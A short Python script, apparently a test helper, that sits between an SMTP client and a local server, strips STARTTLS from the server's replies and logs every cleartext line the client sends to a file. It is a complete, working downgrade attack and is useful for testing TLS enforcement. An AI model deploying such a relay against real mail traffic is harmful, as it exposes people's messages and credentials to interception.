"""A man in the middle of an SMTP session who takes STARTTLS out of what the server offers.

usage: stripping_relay.py FOLDER PORT     (of the server, on 127.0.0.1)

Prints "listening PORT -" once it does. Every line that the client sent in the clear stands in FOLDER/heard.txt.
"""

import asyncio
import sys

folder, server_port = sys.argv[1], int(sys.argv[2])


def stripped(lines):
    """A reply without its line of STARTTLS; the last line has a blank behind its code."""
    kept = [line for line in lines if line[4:].strip().upper() != b"STARTTLS"]
    return [line[:3] + (b" " if number == len(kept) else b"-") + line[4:] for number, line in enumerate(kept, 1)]


async def to_client(server, client):
    reply = []
    while line := await server.readline():
        reply.append(line)
        if line[3:4] != b"-":
            client.writelines(stripped(reply))
            reply = []
            await client.drain()
    client.close()


async def to_server(client, server):
    with open(f"{folder}/heard.txt", "ab", buffering=0) as heard:
        while line := await client.readline():
            heard.write(line)
            server.write(line)
            await server.drain()
    server.close()


async def serve(reader, writer):
    server_reader, server_writer = await asyncio.open_connection("127.0.0.1", server_port)
    await asyncio.gather(to_client(server_reader, writer), to_server(reader, server_writer), return_exceptions=True)


async def main():
    listener = await asyncio.start_server(serve, "127.0.0.1", 0)
    print("listening", listener.sockets[0].getsockname()[1], "-", flush=True)
    await listener.serve_forever()


asyncio.run(main())
